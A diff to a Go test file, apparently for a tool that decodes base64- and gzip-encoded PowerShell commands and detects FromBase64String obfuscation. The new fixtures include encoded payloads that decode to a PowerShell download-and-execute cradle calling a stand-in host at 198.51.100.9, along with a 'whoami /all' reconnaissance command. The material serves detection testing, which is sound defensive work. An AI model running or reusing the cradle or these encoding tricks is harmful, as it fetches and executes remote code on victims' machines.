@@ -19,7 +19,12 @@ func TestDecodeBase64Text(t *testing.T) {
 		{"utf16le missing padding", "VwByAGkAdABlAC0ATwB1AHQAcAB1AHQAIAAiAGgAZQBsAGwAbwAgAHQAcgBhAHcAbAAiAA", `Write-Output "hello trawl"`, true},
 		{"utf8", "d2hvYW1pIC9hbGw=", "whoami /all", true},
 		{"not base64", "not*base64!", "", false},
-		{"binary (gzip header)", "H4sIAAAAAAAEAAsJ", "", false},
+		{"gzip payload", "H4sIAAAAAAACA/N0jVDQ8Est1/VPykpNLlHwSy3RC09Ncs7JTM0r0dRzyS/Py8lPTAkuKcrMS9dQyigpKbDS1ze0tNAzNdQzNDDQs9QvLklMT1XSBACVJG5MSgAAAA==",
+			`IEX (New-Object Net.WebClient).DownloadString("http://198.51.100.9/stage")`, true},
+		{"raw deflate payload", "83SNUNDwSy3X9U/KSk0uUfBLLdELT01yzslMzSvR1HPJL8/LyU9MCS4pysxL11DKKCkpsNLXN7S00DM11DM0MNCz1C8uSUxPVdIEAA==",
+			`IEX (New-Object Net.WebClient).DownloadString("http://198.51.100.9/stage")`, true},
+		{"truncated gzip", "H4sIAAAAAAAEAAsJ", "", false},
+		{"binary", "AAECAwQFBgcICQ==", "", false},
 		{"empty", "", "", false},
 	}
 	for _, tc := range cases {
@@ -65,8 +70,14 @@ func TestEncodedCommandPattern(t *testing.T) {
 		}
 	}
 	fb := regexp.MustCompile(FromBase64Pattern)
-	if m := fb.FindStringSubmatch(`$b=[System.Convert]::FromBase64String('d2hvYW1pIC9hbGw=')`); m == nil || m[1] != "d2hvYW1pIC9hbGw=" {
-		t.Errorf("FromBase64Pattern: %q", m)
+	for _, cmd := range []string{
+		`$b=[System.Convert]::FromBase64String('d2hvYW1pIC9hbGw=')`,
+		`-c '...[Convert]::FromBase64String(''d2hvYW1pIC9hbGw='')...'`, // quote doubled inside a quoted argument
+		`[Convert]::FromBase64String( "d2hvYW1pIC9hbGw=" )`,
+	} {
+		if m := fb.FindStringSubmatch(cmd); m == nil || m[1] != "d2hvYW1pIC9hbGw=" {
+			t.Errorf("FromBase64Pattern on %s: %q", cmd, m)
+		}
 	}
 }
 
